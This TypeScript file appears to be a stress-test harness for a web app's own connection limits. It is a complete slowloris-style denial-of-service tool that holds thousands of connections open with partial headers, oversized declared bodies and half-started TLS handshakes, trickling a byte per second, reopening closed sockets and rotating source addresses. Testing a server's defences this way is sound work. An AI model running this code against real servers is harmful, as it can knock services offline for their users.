import { connect } from "node:net";
import { connect as connectTls } from "node:tls";
import { parseArgs } from "node:util";

// A hostile host as a program: keeps so many bad connections to the server open at once, and opens a new one for each that the
// server closes. Prints `attacking` when each has been open once. Ends when it is killed.

const AGAIN_MS = 500;
const SLOW_MS = 1000;

const { values } = parseArgs({
  options: {
    host: { type: "string", default: "127.0.0.1" },
    port: { type: "string", default: "8080" },
    /** Its addresses, used in turn. */
    from: { type: "string", multiple: true, default: [] },
    connections: { type: "string", default: "2000" },
    /** The port speaks TLS. */
    tls: { type: "boolean", default: false },
    /** A bearer token for the uploads and the large bodies, which an anonymous host could not begin. */
    token: { type: "string", default: "" },
  },
});
const count = Number(values.connections);
const head = (path: string, length: number, type = "application/json") =>
  `POST ${path} HTTP/1.1\r\nHost: box\r\nAuthorization: Bearer ${values.token}\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`;
const PART = '--b\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\n\r\n';

/** The first bytes of each kind; all but the idle ones then send a byte a second. */
const KINDS = [
  "",
  "GET /api/articles HTTP/1.1\r\nHost: box\r\nX-Never: ",
  `${head("/api/pwa-auth/login-pin", 1024 * 1024)}{`,
  `${head("/api/pwa-auth/login-pin", 4000)}{`,
  `${head("/api/inventories/1/counts", 8 * 1024 * 1024)}${"x".repeat(256 * 1024)}`,
  `${head("/api/photoarticleinventory", 20 * 1024 * 1024, "multipart/form-data; boundary=b")}${PART}${"x".repeat(256 * 1024)}`,
];

/** At a port of TLS also connections without a handshake, and with the begin of one (a ClientHello). */
const BEFORE_TLS = ["", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"];

interface Kind {
  readonly first: string;
  readonly isTls: boolean;
}

const OF_PORT: readonly Kind[] = [
  ...(values.tls ? BEFORE_TLS.map((first) => ({ first, isTls: false })) : []),
  ...KINDS.map((first) => ({ first, isTls: values.tls })),
];

let opened = 0;
function attack(kind: Kind | undefined, localAddress: string | undefined): void {
  const { first = "", isTls = false } = kind ?? {};
  const to = {
    host: values.host,
    port: Number(values.port),
    ...(localAddress !== undefined && { localAddress }),
  };
  const socket = isTls ? connectTls({ ...to, rejectUnauthorized: false }) : connect(to);
  let timer: NodeJS.Timeout | undefined;
  socket.once("connect", () => {
    if (++opened === count) process.stdout.write("attacking\n");
  });
  socket.once(isTls ? "secureConnect" : "connect", () => {
    socket.write(first, "latin1");
    if (first !== "") timer = setInterval(() => socket.write("x"), SLOW_MS);
  });
  socket.resume();
  // The server closes and resets connections above its limits.
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(timer);
    setTimeout(attack, AGAIN_MS, kind, localAddress);
  });
}
for (let index = 0; index < count; index++)
  attack(OF_PORT[index % OF_PORT.length], values.from[index % values.from.length]);
